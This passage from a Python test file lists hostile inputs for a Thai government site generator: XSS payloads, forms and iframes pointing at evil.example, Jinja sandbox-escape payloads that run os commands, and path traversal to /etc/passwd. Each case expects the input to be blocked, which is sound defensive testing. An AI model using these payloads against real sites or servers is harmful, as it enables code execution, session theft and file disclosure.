    Case("files", "a name written in another case", {O2: EX + doc("files/Report.PDF"), f"{FILES}/report.pdf": Made("pdf")}, Fails(f"{O2}:7:11", "ตัวพิมพ์เล็กและตัวพิมพ์ใหญ่", "there is 'files/report.pdf'")),
    Case("files", "a name written in another Unicode form", {O2: EX + doc(f"files/{NFC}"), f"{FILES}/{NFD}": Made("pdf")}, Fails(f"{O2}:7:11", "รหัสอักขระต่างจากที่เขียนไว้", "encoded differently")),
    Case("files", "a name Windows refuses", {f"{FILES}/a:b.pdf": Made("pdf")}, Fails(f"{FILES}/a:b.pdf", "ใช้เป็นชื่อไฟล์ในเว็บไซต์ไม่ได้", "it holds :, which Windows refuses")),
    Case("files", "a name with # and %", {f"{FILES}/100%#1.pdf": Made("pdf")}, Fails(f"{FILES}/100%#1.pdf", "ใช้เป็นชื่อไฟล์", "it holds # %")),
    Case("files", "a Windows device name", {f"{FILES}/CON.pdf": Made("pdf")}, Fails(f"{FILES}/CON.pdf", "สงวนไว้สำหรับอุปกรณ์", "Windows keeps this name for a device")),
    Case("files", "a name ending in a space", {f"{FILES}/x.pdf ": Made("pdf")}, Fails(f"{FILES}/x.pdf ", "ลงท้ายด้วยช่องว่างหรือจุด", "ends in a space or a dot")),
    Case("files", "a name with a newline", {f"{FILES}/a\nb.pdf": Made("pdf")}, Fails(f"{FILES}/a\\nb.pdf", "ใช้เป็นชื่อไฟล์", "cannot be the name")),
    Case("files", "a name that is not UTF-8", {f"{FILES}/".encode() + "ภาพ".encode("cp874") + b".png": Made("png")}, Fails(FILES + "/\\xc0\u04be.png", "ไม่ได้เขียนด้วย UTF-8", "not UTF-8")),
    Case("files", "folders nested 900 deep", {"content/" + "a/" * 900 + "x.pdf": Made("pdf")}, Fails("content/" + "a/" * 900 + "x.pdf", "ยาวเกิน 160 ตัวอักษร", "longer than 160 characters")),
    Case("files", "a path of 170 characters", {f"{FILES}/{'ก' * 50}/{'ข' * 50}/{'ค' * 50}.pdf": Made("pdf")}, Fails(f"{FILES}/{'ก' * 50}/{'ข' * 50}/{'ค' * 50}.pdf", "ยาวเกิน 160 ตัวอักษร", "Windows cannot open it")),
    Case("files", "a folder where a file is named", {O2: EX + doc("files/folder.pdf"), f"{FILES}/folder.pdf/a.pdf": Made("pdf")}, Fails(f"{O2}:7:11", "ไม่พบไฟล์", "file not found")),
    Case("files", "a Thai file name", {O2: EX + doc("files/รายงาน ๒๕๖๗.pdf"), f"{FILES}/รายงาน ๒๕๖๗.pdf": Made("pdf")}, Builds(present=(("ita/2568/files/รายงาน ๒๕๖๗.pdf", b"%PDF"),))),

    # ---- Markdown: dangerous raw HTML, nesting, sizes -----------------------------------------------------------------
    Case("markdown", "a script", post("<script>alert(document.cookie)</script>\n"), Builds(absent=HTML_ABSENT, warns=(f"{NEWS}:5:1", "<script>"))),
    Case("markdown", "an event handler", post('<b onmouseover="alert(1)">ข่าว</b>\n'), Builds(absent=HTML_ABSENT, warns=(f"{NEWS}:5:1", "onmouseover="))),
    Case("markdown", "a javascript: link in HTML", post('<a href="javascript:alert(1)">x</a>\n'), Builds(absent=HTML_ABSENT, warns=(f"{NEWS}:5:1", "javascript:"))),
    Case("markdown", "an encoded javascript: link", post('<a href="&#106;avascript:alert(1)">x</a>\n'), Builds(absent=HTML_ABSENT)),
    Case("markdown", "a vbscript: link", post('<a href="vbscript:msgbox(1)">x</a>\n'), Builds(absent=HTML_ABSENT)),
    Case("markdown", "a javascript: Markdown link", post("[กดที่นี่](javascript:alert(1))\n"), Builds(absent=HTML_ABSENT, warns=(f"{NEWS}:5:1", "javascript:"))),
    Case("markdown", "a data: link", post('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>\n'), Builds(absent=(b"data:text/html",))),
    Case("markdown", "an iframe", post('<iframe src="https://evil.example/"></iframe>\n'), Builds(absent=HTML_ABSENT + (b"evil.example",))),
    Case("markdown", "an image from a tracker", post('<img src="http://tracker.example/p.gif">\n'), Builds(absent=HTML_ABSENT, warns=(f"{NEWS}:5:1", "ภาพจากเว็บไซต์อื่น"))),
    Case("markdown", "a Markdown image from a tracker", post("![](http://tracker.example/p.gif)\n"), Builds(absent=HTML_ABSENT)),
    Case("markdown", "a reference image from a tracker", post("![x][t]\n\n[t]: http://tracker.example/p.gif\n"), Builds(absent=HTML_ABSENT)),
    Case("markdown", "a style with @import", post("<style>@import url(http://tracker.example/a.css);</style>\n"), Builds(absent=HTML_ABSENT)),
    Case("markdown", "a meta refresh", post('<meta http-equiv="refresh" content="0;url=https://evil.example/">\n'), Builds(absent=HTML_ABSENT + (b"evil.example",))),
    Case("markdown", "a form", post('<form action="https://evil.example/"><input name="p"></form>\n'), Builds(absent=HTML_ABSENT + (b"evil.example",))),
    Case("markdown", "an object and an embed", post('<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">\n'), Builds(absent=HTML_ABSENT)),
    Case("markdown", "a base element", post('<base href="https://evil.example/">\n'), Builds(absent=HTML_ABSENT + (b"evil.example",))),
    Case("markdown", "inline SVG with onload", post('<svg onload="alert(1)"><circle r="1"/></svg>\n'), Builds(absent=HTML_ABSENT)),
    Case("markdown", "10,000 nested quotes", post(">" * 10_000 + " x\n"), Fails(f"{NEWS}:5:1", "ซ้อนกันลึกเกิน 40 ชั้น", "nest more than 40 levels")),
    Case("markdown", "100 nested lists", post("".join("    " * i + "- x\n" for i in range(100))), Fails(f"{NEWS}:45:1", "ซ้อนกันลึกเกิน 40 ชั้น", "nest more than 40 levels")),
    Case("markdown", "5,000 nested divs", post("<div>" * 5_000 + "\n"), Fails(f"{NEWS}:5:201", "ซ้อนกันลึกเกิน 40 ชั้น", "nest more than 40 levels")),
    Case("markdown", "4,000 unclosed [", post("[x " * 4000 + "\n"), Fails(f"{NEWS}:5:121", "ซ้อนกันลึกเกิน 40 ชั้น", "brackets")),
    Case("markdown", "3,000 links without their )", post("[a](" * 3000 + "\n"), Fails(f"{NEWS}:5:3", "ไม่มีเครื่องหมายปิด", "without their closing mark")),
    Case("markdown", "10,000 tags without >", post("<a " * 10_000 + "\n"), Fails(f"{NEWS}:5:1", "ไม่มีเครื่องหมายปิด", "without their closing mark")),
    Case("markdown", "7,000 comments never closed", post("<!--" * 7_000 + "\n"), Fails(f"{NEWS}:5:1", "ไม่มีเครื่องหมายปิด", "without their closing mark")),
    Case("markdown", "7,000 rules in one paragraph", post("***\n" * 7000), Fails(f"{NEWS}:6:1", "เส้นคั่น", "too many headings or rules")),
    Case("markdown", "a 40,000-character paragraph", post("ก" * 40_000 + "\n"), Fails(f"{NEWS}:5:1", "ยาวเกิน 32,000 ตัวอักษร", "runs over 32,000 characters")),
    Case("markdown", "a 200 KB post", post("ประชุมประชาคม\n\n" * 8000), Fails(NEWS, "ใหญ่", "more than a Markdown text may be (128 KB)")),
    Case("markdown", "a megabyte of text", {NEWS: Repeat("ข่าว\n\n", 1024 * 1024, POST)}, Fails(NEWS, "ใหญ่ 1.0 MB", "(128 KB)")),
    Case("markdown", "120 KB of prose in paragraphs", post(("ประชุมประชาคมหมู่บ้านเพื่อจัดทำแผนพัฒนาท้องถิ่น " * 10 + "\n\n") * 90), Builds()),
    Case("markdown", "the slowest text within the limits", post(("`a` " * 7500 + "\n\n") * 4), Builds()),
    Case("markdown", "a 300-row table", post("| ที่ | รายการ |\n|---|---|\n" + "| 1 | ซื้อวัสดุสำนักงาน |\n" * 300), Builds(present=(("news/2567-10-15-khao.html", b"<table"),))),
    Case("markdown", "a NUL byte in a post", post("ข่าว\x00ดี\n"), Fails(f"{NEWS}:5:5", CTRL_TH, "NUL")),
    Case("markdown", "a post saved as TIS-620", {NEWS: (POST + "ข่าวดี\n").encode("cp874")}, Fails(f"{NEWS}:2:1", "ไม่ได้บันทึกเป็น UTF-8", "not saved as UTF-8")),
    Case("markdown", "a link to a missing file", post("[ระเบียบ](../ita/2568/files/none.pdf)\n"), Fails(f"{NEWS}:5:1", "ไม่มีในเว็บไซต์", "leads to a file the site does not have")),
    Case("markdown", "a link leading out of the site", post("[x](../../../../etc/passwd)\n"), Fails(f"{NEWS}:5:1", "ไม่มีในเว็บไซต์", "the site does not have")),
    Case("markdown", "an item body with a script", {O2: EX, O2MD: "<script>alert(1)</script>\n"}, Builds(absent=HTML_ABSENT, warns=(f"{O2MD}:1:1", "<script>"))),
    Case("markdown", "an item body nested too deep", {O2: EX, O2MD: ">" * 100 + " x\n"}, Fails(f"{O2MD}:1:1", "ซ้อนกันลึกเกิน", "nest more than")),

    # ---- templates: syntax, undefined names, reaching Python's internals -----------------------------------------------
    Case("templates", "a syntax error", template("{% if %}\n"), Fails(T1, ESC, "TemplateSyntaxError")),
    Case("templates", "an undefined name", template("{{ nothing_here }}\n"), Fails(T1, ESC, "UndefinedError")),
    Case("templates", "a missing parent template", template('{% extends "nope.html" %}\n'), Fails(T1, ESC, "nope.html")),
    Case("templates", "''.__class__.__mro__", template("{{ ''.__class__.__mro__[1].__subclasses__() }}\n"), Fails(T1, ESC, "SecurityError")),
    Case("templates", "cycler.__init__.__globals__ runs a command", template("{{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}\n"), Fails(T1, ESC, "SecurityError", no_file="PWNED")),
    Case("templates", "joiner.__init__.__globals__", template("{{ joiner.__init__.__globals__['os'].system('touch PWNED') }}\n"), Fails(T1, ESC, "SecurityError", no_file="PWNED")),
    Case("templates", "lipsum.__globals__", template("{{ lipsum.__globals__['os'].system('touch PWNED') }}\n"), Fails(T1, ESC, "SecurityError", no_file="PWNED")),
    Case("templates", "a filter's __globals__ via attr", template("{{ (url|attr('__globals__')) }}\n"), Fails(T1, ESC, "SecurityError")),
    Case("templates", "str.format through |attr (CVE-2025-27516)", template("{{ ('{0.__init__.__globals__}'|attr('format'))(url) }}\n"), Fails(T1, ESC, "SecurityError")),
    Case("templates", "the template's own context", template("{{ self._TemplateReference__context }}\n"), Fails(T1, ESC, "SecurityError")),
    Case("templates", "str.format reaching __class__", template("{{ '{0.__class__.__init__.__globals__}'.format(site) }}\n"), Fails(T1, ESC, "SecurityError")),
    Case("templates", "format_map reaching __class__", template("{{ '{x.__class__}'.format_map({'x': site}) }}\n"), Fails(T1, ESC, "SecurityError")),
    Case("templates", "an index out of range", template("{{ '{0}'.format_map({}) }}\n"), Fails(T1, ESC, "IndexError")),
    Case("templates", "changing the settings", template("{{ site.settings.clear() }}\n"), Fails(T1, ESC, "SecurityError")),
    Case("templates", "a range of a billion", template("{{ range(10**9)|list|length }}\n"), Fails(T1, ESC, "OverflowError")),
    Case("templates", "ten gigabytes of text", template("{{ 'x' * 10**10 }}\n"), Fails(T1, ESC, "SecurityError")),
    Case("templates", "9**999999", template("{{ 9**999999 }}\n"), Fails(T1, ESC, "SecurityError")),
    Case("templates", "a macro calling itself for ever", template("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}\n"), Fails(T1, ESC, "RecursionError")),
    Case("templates", "an include leading out", template('{% include "../../../../etc/passwd" %}\n'), Fails(T1, ESC, "TemplateNotFound")),
    Case("templates", "an include of a link to /etc/passwd", {**template('{% include "passwd.html" %}\n'), "templates/passwd.html": Link("/etc/passwd")}, Fails(T1, ESC, "TemplateNotFound")),
    Case("templates", "static_text leading out", template("{{ static_text('../../../../etc/passwd') }}\n"), Fails(T1, ESC, "TemplateNotFound")),
    Case("templates", "a static file linked to /etc/passwd", {"templates/static/leak.txt": Link("/etc/passwd")}, Builds(absent=(PASSWD,), not_published=("static/leak.txt",))),
    Case("templates", "the service worker linked to a secret", {"templates/sw.js": Link("{outside}/secret.txt")}, Builds(absent=(SECRET,), not_published=("sw.js",))),
    Case("templates", "a link to a file the site does not have", template('<a href="{{ url(\'../etc/passwd\') }}">x</a>\n'), Fails(CONTACT, "ลิงก์ไปยัง", "which does not exist")),

    # ---- a non-UTF-8 locale (what Python really does is checked in test_hostile.py) ----------------------------------
    Case("locale", "a Thai file name under LANG=C", {O2: EX + doc("files/นายก.pdf"), f"{FILES}/นายก.pdf": Made("pdf")}, Builds(present=(("ita/2568/files/นายก.pdf", b"%PDF"),)), env=(("LANG", "C"), ("LC_ALL", "C"))),
    Case("locale", "a Thai file name under TIS-620", {O2: EX + doc("files/นายก.pdf"), f"{FILES}/นายก.pdf": Made("pdf")}, Builds(present=(("ita/2568/files/นายก.pdf", b"%PDF"),)), env=LOCALE),
    Case("locale", "a Thai item file name under TIS-620", {"content/ita/2568/O2-ผู้บริหาร.yaml": EX}, Builds(present=(("ita/2568/o2.html", "นายทดสอบ".encode()),)), env=LOCALE),
    Case("locale", "an error naming a Thai file under LANG=C", {O2: EX + doc("files/ไม่มี.pdf")}, Fails(f"{O2}:7:11", "ไม่พบไฟล์", "file not found: 'files/ไม่มี.pdf'"), env=(("LANG", "C"), ("LC_ALL", "C"))),

    # ---- the process: kill -9, read-only folders, a full disk, two builds at once, a damaged cache ---------------
    # (written by the engineer of the output folder, with runners of their own: harness.RUNNERS)
]
